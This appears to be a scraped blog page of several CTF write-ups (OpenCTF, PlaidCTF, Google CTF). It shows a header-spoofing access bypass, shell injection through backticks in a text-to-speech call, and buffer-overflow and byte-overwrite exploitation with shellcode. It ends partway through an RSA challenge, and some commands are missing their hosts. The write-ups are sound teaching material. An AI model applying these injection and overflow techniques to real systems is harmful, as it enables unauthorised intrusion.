OpenCTF 2018 - Forbidden Folly 1 & 2 Writeup

Forbidden Folly 1 50 ---
Welcome to Hacker2, where uptime is a main prority:

Forbidden Folly 2 50 ---
It seems like out of towners are terrible at scavenger hunts:

These challenges from OpenCTF 2018 at Defcon 26 were simple web challenges that took us way more time to solve than it should have.

Attempting to visit the page linked to in the hint only resulted in a 403 Forbidden response. Eventually an organizer alluded to the server caring about the origin of the request. This led us down the incorrect path of attempting to make the request with an Origin HTTP header.

Eventually though, we figured out that requesting the resource with an X-Forwarded-For HTTP header was the key:

curl -v' -H 'X-Forwarded-For:'

This returned an HTML page for the "HackerTwo System Status" page, and at the bottom of the source is the flag:

<!-- flag(Th4t_WAS_To0_EASY} -->For the second challenge in the series, we first attempted to add other HTTP request headers that we thought the hint might be alluding to with "out of towners" such as Accept-Language but nothing seemed to affect the response.

The "HackerTwo System Status" page contained the following text:

If at any point all systems stop responding you may want to check the system to verify everything is running properly. Tim placed a web terminal on the system for easy access, the location of that has been emailed to everyone who has access to this portal.

We thought this web terminal might be the key to finding the flag, so keeping the X-Forwarded-For header as before, we poked around a bit. Eventually after manually trying a few paths, we found /debug on the server returned a directory listing containing secret.txt, which contained the flag:

curl -v '' -H 'X-Forwarded-For:'
*   Trying
* Connected to ( port 80 (#0)
> GET /debug/secret.txt HTTP/1.1
> Host:
> X-Forwarded-For:
< HTTP/1.1 200 OK
< Date: Sat, 11 Aug 2018 23:00:38 GMT
< Server: Apache/2.4.18 (Ubuntu)
< Last-Modified: Tue, 24 Jul 2018 06:38:04 GMT
< ETag: "ea-571b901137e84"
< Accept-Ranges: bytes
< Content-Length: 234
< Vary: Accept-Encoding
< Content-Type: text/plain

I've created an account for you here on the system. You can log into ssh with the user chad and the password FriendOfFolly^.
Please delete this message after you've read it.

PS: flag{Th3_nexT_0ne_iS_D1ff1cul7}


Posted on Aug. 14, 2018, 10:40 p.m. bytecknicaltom

PlaidCTF 2017 - Echo (web 200) WriteupThis challenge presents a webpage with the text "Tweets are 140 characters only!" and input boxes for four tweets. Submitting tweets gives you a page with wav files, one per tweet that contains a text to speech version of the tweet.

The source code for the web front-end was provided. Examining it, you see that the tweets are written to a file:

85      with open(my_path + "input" ,"w") as f:
86          f.write('\n'.join(tweets))

Also, a flag is expanded and written to a file. This creates a large file (65000b per character of the flag) that needs to be acquired completely to get the flag.

25 def process_flag (outfile):
26     with open(outfile,'w') as f:
27         for x in flag:
28             c = 029             towrite = ''
30             for i in range(65000 - 1):
31                 k = random.randint(0,127)32                 c = c ^ k
33                 towrite += chr(k)
35             f.write(towrite + chr(c ^ ord(x)))
36     return

Both of these files are passed to a docker container:

10 docker_cmd = "docker run -m=100M --cpu-period=100000 --cpu-quota=40000 --network=none -v {path}:/share lumjjb/echo_container:latest python"

Finally, the dockerized process must generate the wav files, because they're then converted back in our python code:

11 convert_cmd = "ffmpeg -i {in_path} -codec:a libmp3lame -qscale:a 2 {out_path}"

43     for i in range(n):
44         st = os.stat(path + str(i+1) + ".wav")
45         if st.st_size < 5242880:
46    (convert_cmd.format(in_path=path + str(i+1) + ".wav",
47                                          out_path=target_path +str(i+1) + ".wav").split())

So, first step is to get the that is executed in docker. I chose to extract it from the image without actually creating a container. I'm not very well-versed in Docker, so there may be an easier way to do this:

docker pull lumjjb/echo_container
docker save lumjjb/echo_container > echo.tartar xvf echo.tar
for l in */layer.tar ; do echo $l ; tar tvf $l ; done | less
tar xvf 8f*/layer.tar

That gives us:

 1 import sys
 2 from subprocess import call
 4 import signal
 5 import os
 6 def handler(signum, frame):
 7     os._exit(-1)
 9 signal.signal(signal.SIGALRM, handler)
10 signal.alarm(30)13 INPUT_FILE="/share/input"
14 OUTPUT_PATH="/share/out/"
16 def just_saying (fname):
17     with open(fname) as f:
18         lines = f.readlines()
19         i=0
20         for l in lines:
21             i += 1
23             if i == 5:
24                 break
26             l = l.strip()
28             # Do TTS into mp3 file into output path
29             call(["sh","-c",
30                 "espeak " + " -w " + OUTPUT_PATH + str(i) + ".wav \"" + l + "\""])

A quick glance at that shows that it's vulnerable to shell injection in the call to espeak. Submitting a tweet with of `pwd` (using backticks) returns an audio of "slash", confirming.

Since the audio is converted by ffmpeg, we can't just cat the flag file into the output wav files. Instead, I chose to reconstruct the flag within the docker image. After confirming that the docker environment had Perl available, I was off to do some golfing, eventually working up to:

`perl -e 'local$/;$a=<>;$f[$_/65000]^=ord(substr($a,$_,1))for(0..length($a)-1);print join"-",@f' share/flag`

This one-liner reconstructs the flag and prints the decimal ASCII values of each character. Manually transcribed from the audio, it gives:


which decodes to:


Posted on April 23, 2017, 6:31 p.m. by tecknicaltom

OpenCTF 2016 - Apprentice WWW (Binary 300) writeup

Solution by [Neg9] Javantea


Apprentice_www is a exploitable challenge with a simple premise.

You get to overwrite one byte. That's not enough for code execution in a normal system. But the mprotects make the whole text segment writable and executable. That's good enough get a loop around the function that overwrites bytes. Then you can overwrite the text segmentwith your shellcode in a special way, then your shellcode executes. Instead of writing a python script that connects and sends the integers, I chose to print the integers and paste them into netcat. Then cat /home/challenge/flag

One interesting thing that I had to overcome was the loop jump. If you overwrite the lower byte of the loop jump with your shellcode, you will jump somewhere other than the top of the loop and it'll be crash city. So instead of doing that use the fact that it's a conditional jump to have it execute your shellcode. Which value does your input have to be to get it to branch the other direction? 0. So that's why there's a

# Junkat the bottom of my script. Yup.


Posted on Aug. 27, 2016, 9:30 p.m. by Javantea

OpenCTF 2016 - CGC Neophyte (Binary 300) writeup

Solution by [Neg9] Javantea


Neophyte was one of the more difficult challenges at OpenCTF that I solved. I spent 1 hour getting the first exploit to work, just a simple buffer overflow. I spent 4 or so hours getting the exploit that worked on the first binary reliable for approximately 1 in 150 binaries. The solution reads the value subtracted from EBP at address 8048546 to decide how large the buffer should be to overflow. I copied the shellcode from a teammate's solution. Then the solution readsvarcmp, the byte that is compared to a changing value in thebinaries. The exploit is not reliable because we don't know the address of the stack. Therefore we guess and it will crash 99.3% of the time. 0.7% of the time, it will hit the nopsled and execute our shellcode. Then you can cat /home/challenge/flag and you are done.


Exploiting a buffer overflow

If you're at the point whereyou're having trouble exploiting this buffer overflow, you should not be so worried. You're exploiting the stack which is variable size and the stack is randomized. If the stack is enormous, you can fill it with nops and jump to where you think it might be. Stack overflows should usually be exploited in the following manner:

nopsled + shellcode + padding + address

How do we know the right amount of nopsled and padding for the address to be in the right place? The buffer size is known to you, so you can get your address executed every time. To do this dynamically, Create a pattern to crash your program. Then you can use the pattern to determine how long your buffer should be. If you don't have a pattern generator, use AAAA...BBBB. Increase the number of A's but keep just 4 B's, this makes it so you know when EIP is 0x42424242, you have the right position.

On the topic of padding, generally you want as little padding as possible, but that depends on how much data is trashed in the stack. If only 15 bytes get trashed at the end of the stack, your padding should be 15 bytes long. In this case I wasn't interested in finding out how many bytes weregetting trashed on the stack, so I gave 50 bytes to padding and it worked.

Figuring out how big the buffer size is given two binaries

In neophyte you can find out the correct buffer size with one binary if you understand buffer overflows properly. But let's assume that you don't (like I didn't when I exploited this challenge) for the purpose of explanation. First you use the technique in the previous section to find out the correct length of the buffer. It doesn't matter where you measure it from, so long as you're consistent. Then you look at the values in the binary.


diff -u neophyte1.javneophyte2.jav
--- neophyte1.jav       2016-08-05 19:09:09.935916641 -0700
+++ neophyte2.jav       2016-08-05 19:39:34.523799711 -0700
@@ -163,12 +163,12 @@
  804852f: PUSH EBP
  8048530: MOV EBP, ESP ; EBP = ESP;
- 8048532: SUB ESP, 0x3db8 ; ESP -= 0x3db8;
+ 8048532: SUB ESP, 0xea8 ; ESP -= 0xea8;
  8048538: MOV EAX, [0x804a040] ; EAX = [0x804a040];
  804853d: SUB ESP, 0x4 ; ESP -= 0x4;
  8048540: PUSH EAX
- 8048541: PUSH DWORD 0x41a4
- 8048546: LEA EAX, [EBP-0x3dac]
+ 8048541: PUSH DWORD 0x129c
+ 8048546: LEA EAX, [EBP-0xea4]
  804854c: PUSH EAX
  804854d: CALL 80483d0 <fgets>
  8048552: ADD ESP, 0x10 ; ESP += 0x10;
@@ -201,8 +201,8 @@
  80485a0: ADD ESP, 0x10 ; ESP += 0x10;
  80485a3: CALL 80483c0 <getchar>
  80485a8: MOV [EBP-0x9], AL ; [EBP-0x9] = AL;
- 80485ab: CMP BYTE [EBP-0x9], 0x6b ;
- 80485af: JNZ 0x80485c8 ; if(BYTE [EBP-0x9] == 0x6b) {
+ 80485ab: CMP BYTE [EBP-0x9], 0x75 ;
+ 80485af: JNZ 0x80485c8 ; if(BYTE [EBP-0x9] == 0x75) {
  80485b1: SUB ESP, 0xc ; ESP -= 0xc;80485b4: PUSH DWORD 0x8048670 ; 'good gatekeeper'
  80485b9: CALL 80483f0 <puts>

There are two values that could possibly be the buffer size. One is sub esp at 8048532 and the other is sub lea at 8048546. Create the table below (the original of which I made during the competition you can find insublea1.txt).

binary correct   subesp lea
neophyte1 15798 0x3db6 0x3db8 0x3dac
neophyte2 3758 0xeae 0xea8 0xea4

Now we do a tiny bit of algebra. The correct value - subesp is (0x3db6-0x3db8) and (0xeae-0xea8). The correct value minus sublea is (0x3db6-0x3dac) and (0xeae-0xea4). Which of the two values is consistent? sublea+4 is correct. subesp is not.


Some hackers aren't patient enough to exploit some vulnerabilities. That's all right because you don't need to exploit every vulnerability. Some vulnerabilities you want to see patched before you have a chance to exploit it. The last step in exploiting this vulnerability is have patience and let the for loop finish the job.


for i in $(seq 1 200); do echo 'new'; python3; done >gg3.txt
grep -A2 success gg3.txt |sort |uniq -c
    180 --
      4 *** Connection closed by remote host ***
      1 DontGetAngr_y___IT_WILL_GET_WORSE
    175 new
    181 resp success b'\n'
    181 shell:

Posted on Aug. 15, 2016, 10:50 p.m. by Javantea

Google CTF 2016 - RSACalc (crypto 300) Writeup


Connect to

Try our new Cloud Computing Service.

Note: Encrypt and decrypt operations expect base64-encoded input.Connecting to the server (via SSL!) and solving a simple proof of work gives us an "RSA Calculator" that supports some basic arithmetic and Boolean operations along with encrypting and decrypting simple messages:

Usage: [operand1] operator operand2

Supported operations: +, -, , /, ^, |, &, *, sqrt, encrypt, decrypt

After 8 operations or a timeout, the system will kick you out with an encrypted copy of the flag for your troubles.

Unfortunately,messages give a different encrypted value every time they're submitted suggesting that there's some sort of random padding being applied. As you would expect the previous flag can't be decrypted on subsequent connections leading to the likely conclusion that the private key changes on every connection attempt.

There's no obvious way to even get the public key parameters, until you notice that asking for certain operations (like 2**128) gives suspiciously low results. It turns out that all operations are being performed over a modulus, and the obvious guess is that the modulus they're using is the N parameter of for their RSA encryption.

There are several ways to get N back out from this operation, but the simplest (thanks to Meta!) is to just find a number that equals zero (modulo N). The operation 1/2 gives a number that (although surprisingly large) when multiplied by 2 will be congruent to 1 (modulo N). So, because the calculator performs all the calculations modulo N we were able to verify that 1 == (1/2)*2 and 0 == ((1/2)*2)-1 == N.

Next we needed information about the padding. Requesting encryption of increasingly large plaintexts reveals that a minimum of 11 bytes of padding are mandatory (based on the 2048-bit N we discovered earlier). This is the same number of bytes as RSAES-PKCS1-v1_5 requires, which was also used in Spotted Wobbegong.To finish discovering the public parameters we need e. Fortunately since we knowN and a likely padding format we can simply encrypt a chosen plaintext locally and see if it decrypts correctly on the server. This quickly identifies 65537 as the proper value for e and confirms that PKCS v1.5 padding is indeed being used.

At this point the public portion of the key is fully discovered, but without the private key it doesn't seem possible to decrypt the flag…

